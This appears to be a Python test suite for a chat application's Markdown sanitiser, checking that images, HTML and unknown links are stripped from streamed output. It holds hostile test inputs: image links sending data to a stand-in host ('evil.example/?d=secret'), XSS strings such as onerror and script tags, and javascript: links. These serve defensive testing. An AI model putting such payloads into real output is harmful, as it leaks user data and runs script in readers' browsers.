"""What leaves the server loads nothing and leads nowhere new; a reader of Markdown that is not ours has the word."""

import re
from collections.abc import Iterator
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from kyrochat.chat.cleaning.cleaner import Cleaner
from kyrochat.chat.cleaning.sources import Sources
from tests.timing import at_most

KNOWN = "https://known.example/a?b=c"
SOURCES = f"Read {KNOWN}, or ask www.known.example/help."
READER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
LINKIFIED = re.compile(r"(?<![A-Za-z0-9])(?:https?://|ftp://|www\.)[A-Za-z0-9][^\s<]*", re.IGNORECASE)


def cleaned(*pieces: str) -> str:
    cleaner = Cleaner(Sources([SOURCES]))
    shown = [piece for fed in pieces for piece in cleaner.feed(fed)] + cleaner.close()
    return "".join(piece.text for piece in shown)


def tokens(text: str) -> Iterator[Token]:
    for token in READER.parse(text):
        yield token
        yield from token.children or []


def is_harmless(text: str) -> bool:
    """Whether a reader of the text finds no image, no HTML, and no link but known ones."""
    plain = ""
    for token in tokens(text):
        if token.type in ("image", "html_inline", "html_block"):
            return False
        if token.type == "link_open" and not SOURCES.count(str(token.attrs["href"])):
            return False
        plain += token.content if token.type == "text" else "\n"
    return all(found.rstrip(".,;:!?)'\"*_~]}>|`") in SOURCES for found in LINKIFIED.findall(plain))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        # Images, with what they show.
        ("A ![hive](http://evil.example/?d=1) b", "A hive b"),
        ("![](http://evil.example/?d=secret)", ""),
        ('![a](<http://evil.example/> "title")', "a"),
        ("![a][b] and ![c][] and ![d]", "a and c and d"),
        ("[![a](http://evil.example/1)](http://evil.example/2)", "[a]"),
        ("![a\n\nb](http://evil.example/)", "!\\[a\n\nb]"),
        ("\\![a](http://evil.example)", "\\![a]"),
        ("\\\\![a](http://evil.example)", "\\\\a"),
        # Citations behind an exclamation are none.
        ("Bees dance![1] Yes", "Bees dance![1] Yes"),
        # HTML.
        ('a <b>c</b> <img src="x" onerror="alert(1)"> d', "a c  d"),
        ("a<br>b<br/>c", "a b c"),
        ("<script>alert(1)</script>", "alert(1)"),
        ("a <!-- b --> c", "a  c"),
        ("<a\nhref='x>y'>z</a>", "z"),
        ("List<String> and <your-key>", "List&lt;String> and &lt;your-key>"),
        ("<img src=x", "&lt;img src=x"),
        ("a < b, 1<2, <- and <= or <3", "a < b, 1<2, <- and <= or <3"),
        ("\\<b>", "&lt;b>"),
        ("&lt;b> AT&amp;T &copy; R&D", "&lt;b> AT&amp;T &copy; R&D"),
        ("http&#58;//evil.example", "http&amp;#58;//evil.example"),
        # Links.
        (f"[a]({KNOWN}) <{KNOWN}> {KNOWN}.", f"[a]({KNOWN}) <{KNOWN}> {KNOWN}."),
        ("[a](http://evil.example/?d=1) b", "[a] b"),
        (f"[a]({KNOWN}&d=secret)", "[a]"),
        ("[a](javascript:alert(1)) [b](data:text/html,x) [c](/logout) [d](#x)", "[a] [b] [c] [d]"),
        ("[a](&#106;avascript:alert(1))", "[a]"),
        ("See http://evil.example/?d=1.", "See (link removed)."),
        ("<http://evil.example/?d=1>", "&lt;(link removed)>"),
        ("(https://evil.example/x), *www.evil.example*", "((link removed)), *(link removed)*"),
        ("Ask www.known.example/help.", "Ask www.known.example/help."),
        (f"**{KNOWN}**", f"**{KNOWN}**"),
        (f"见{KNOWN}。然后", f"见<{KNOWN}>。然后"),
        ("[a]: http://evil.example\n\n[a]", "[a]\\: (link removed)\n\n[a]"),
        ("f[i](x) and g(y)", "f[i]\\(x) and g(y)"),
        ("mailto: and http:// are schemes", "mailto: and http:// are schemes"),
        # What is taken out makes nothing new of what stood around it.
        ("ht<b>tp://evil.example/", "ht tp://evil.example/"),
        ("http://<b>evil.example/", "http:// evil.example/"),
        ("http\\://evil.example", "http ://evil.example"),
        ("!<b>[a](x/y)", "!\\[a]"),
        ("[a]<b>(http://evil.example)", "[a]\\((link removed))"),
        ("``a``<b>`![x](u)`", "``a`` `![x](u)`"),
        # Code.
        ("`<b>` ``a ` ![x](y)`` `x[1]`", "`<b>` ``a ` ![x](y)`` `x[1]`"),
        ("` ![a](x/y)", "\\` a"),
        ("`\n![a](x/y)`", "\\`\na\\`"),
        ("| ` | ![a](x/y) ` |", "| \\` | a \\` |"),
        ("```html\n<b>![a](x)</b>\n```\n<b>c</b>", "```html\n<b>![a](x)</b>\n```\nc"),
        ("~~~\n<b>\n~~~\n~~~~ <b>", "~~~\n<b>\n~~~\n~~~~ <b>"),
        ("a ~~b~~ ~~~c", "a ~~b~~ \\~~~c"),
        ("1. a\n   ```html\n   <div>\n   ```\n   <div>", "1. a\n   ```html\n   <div>\n   ```\n   "),
        ("- a\n\n  - b\n    ```\n    <b>\n    ```\n", "- a\n\n  - b\n    ```\n    <b>\n    ```\n"),
        ("> ```\n> <b>\n> ```\n> <b>", "> ```\n> <b>\n> ```\n> "),
        # Code that ends with what it is in.
        ("- ```\n![a](x/y)", "- ```\na"),
        ("> ```\n![a](x/y)", "> ```\na"),
        ("- ```\n  <b>\n```\n<b>", "- ```\n  <b>\n```\n<b>"),
        ("a\n    ```\n    ![a](x/y)", "a\n    \\`\\`\\`\n    a"),
        # What ends a line, and what does not.
        ("~~~\rb\r~~~\r![a](x/y)\r\n\rc", "~~~\nb\n~~~\na\n\nc"),
        ("` \r![a](x/y)`", "\\` \na\\`"),
        ("```\nb\n```\xa0\n```\n![a](x/y)", "```\nb\n```\xa0\n```\na"),
        ("```\nb\n``` \t\n![a](x/y)", "```\nb\n``` \t\na"),
        # Nothing of this is anything.
        ("2 * 3 = 6 _a_ **b** [c] (d) e! f: g", "2 * 3 = 6 _a_ **b** [c] (d) e! f: g"),
    ],
)
def test_what_is_shown(text: str, shown: str) -> None:
    assert cleaned(text) == shown
    assert cleaned(*text) == shown
    assert is_harmless(shown)


WORDS = ["a", "b1", " ", "  ", "\n", "\n\n", "\n    ", "\n  ", "\n   ", "\t", "é", "。", "1", "h", "ht", "www", "http"]
MARKS = ["!", "[", "]", "(", ")", "<", ">", "\\", "`", "``", "```", "~~~", "|", "&", ";", ":", "/", "//", "*", "'", '"']
LINES = [
    "\n- ",
    "\n1. ",
    "\n2) ",
    "\n> ",
    "\n```",
    "\n```\n",
    "\n  ```",
    "\n   ```\n",
    "\n---\n",
    "\n# ",
    "\n~~~\n",
    "\n\t",
    "\r",
    "\xa0",
    "\f",
]
WHOLE = [
    "![x](http://evil.example/?d=s)", "![x][y]", "[x](http://evil.example)", f"[x]({KNOWN})", KNOWN, "<b>", "</b>",
    "<img src=x>", "<img\nsrc='>'>", "<!--", "-->", "<x y='", "http://evil.example/?d=", "www.evil.example",
    "\n[x]: /u\n", "[1]", "`x`", "<a href=", "javascript:x", "&#58;", "&colon;", "://evil.example",
    "| a | b |\n|---|---|\n| ",
]  # fmt: skip
FRAGMENTS = st.sampled_from(WORDS) | st.sampled_from(MARKS) | st.sampled_from(LINES) | st.sampled_from(WHOLE)
TEXTS = st.lists(FRAGMENTS, max_size=24).map("".join)


@settings(max_examples=400)
@given(TEXTS, st.data())
@example("- a\nlazy\n  ```\n  <b>\n![x](http://evil.example)", None)
@example("text\n2. x\n   ```\n   a\n![x](http://evil.example)\n   ```\n", None)
@example("![- x](u/v)\n  ```\nb\n![x](http://evil.example)\n", None)
def test_any_split_of_a_text_gives_the_same(text: str, data: st.DataObject | None) -> None:
    places = sorted({0, len(text), *data.draw(st.sets(st.integers(0, len(text))))}) if data else [0, len(text)]

    whole = cleaned(text)

    assert cleaned(*[text[start:end] for start, end in pairwise(places)]) == whole
    assert cleaned(*text) == whole


@settings(max_examples=1_500)
@given(TEXTS)
@example("- a\nlazy\n  ```\n  <b>\n![x](http://evil.example)")
@example("text\n2. x\n   ```\n   a\n![x](http://evil.example)\n   ```\n")
@example("<b>- x\n  ```\nb\n![x](http://evil.example)\n")
@example("> - x\n>   ```\n> ![x](http://evil.example)\n")
@example("[a\nb]: http://evil.example\n\n[a b]")
def test_no_reader_finds_an_image_or_html_or_an_unknown_link(text: str) -> None:
    assert is_harmless(cleaned(text)), cleaned(text)


CODE_LINES = st.lists(
    st.lists(st.sampled_from([*WORDS[:4], *MARKS[:9], *WHOLE, "~~~", "x[1] = 3"]), max_size=5)
    .map("".join)
    .map(lambda line: line.replace("\n", " ").replace("`", "'")),
    max_size=5,
)


@given(TEXTS, CODE_LINES, TEXTS)
def test_nothing_is_lost_between_fences(before: str, lines: list[str], after: str) -> None:
    before = before.replace("`", "").replace("~", "")
    code = "".join(f"{line}\n" for line in lines)

    shown = cleaned(f"{before}\n\n```\n{code}```\n{after}")

    assert f"\n```\n{code}```\n" in shown


@given(st.text(alphabet=st.characters(blacklist_characters="\\`~<&[](!:\n\r/", blacklist_categories=["Cs"])))
def test_plain_text_stays_as_it_is(text: str) -> None:
    text = text.replace("www.", "").replace("WWW.", "")
    assert cleaned(text) == text


def test_what_was_taken_out_is_counted() -> None:
    cleaner = Cleaner(Sources([]))
    cleaner.feed("![a](x/y) <b>c</b> [d](http://e.example) http://f.example ")
    cleaner.close()

    assert (cleaner.images, cleaner.tags, cleaner.links) == (1, 2, 2)


def test_text_is_not_held_back_without_need() -> None:
    cleaner = Cleaner(Sources([]))

    fed = ["Bees", " dance [in", " hives] and", " how they", " eat.", "\n", "It"]
    assert ["".join(piece.text for piece in cleaner.feed(text)) for text in fed] == fed


HOSTILE = [" ", "\t", "[", "![", "](", "<", "<a ", "<a b='", "<!--", "`", "` ``", "~", "&", "&#", "\\", "\n", "\n- ",
           "\n>", "\n```\n", "http://", "http:", "www.", "h", "!", "]:", "_", "#", "1", "> ", "(",
           "![](", "[]()"]  # fmt: skip


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("end", ["", "x", "]", ">"])
def test_no_text_takes_long(hostile: str, end: str) -> None:
    text = (hostile * 100_000)[:100_000] + end
    cleaner = Cleaner(Sources([SOURCES]))

    with at_most(seconds=3):
        for start in range(0, len(text), 500):
            cleaner.feed(text[start : start + 500])
        cleaner.close()
